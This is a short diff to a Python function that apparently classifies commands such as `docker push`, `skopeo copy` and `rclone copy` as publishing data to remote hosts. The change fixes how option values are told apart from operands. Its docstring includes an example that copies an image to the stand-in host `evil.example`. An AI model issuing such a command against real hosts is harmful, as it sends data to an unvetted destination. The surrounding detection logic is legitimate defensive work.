@@ -5577,7 +5577,7 @@ def _push(entry: Program, args: list[str], state: _State) -> None:
     """`docker push ghcr.io/me/app`, `skopeo copy A docker://evil.example/b`, `rclone copy . backup:bucket`:
     the program sends to the registry or remote its last operand names (a configured rclone remote is a
     destination Limen cannot place: an unknown host of that name). Marked `publishes`."""
-    words = [w for w in args if not w.startswith("-")]
+    words = _operands(args, entry.options)  # (`--transfers 16`: an option's value, no operand)
     if words[:1] in (["image"], ["container"], ["artifact"]):
         words = words[1:]
     if len(words) < 2 or words[0] not in entry.pushes:
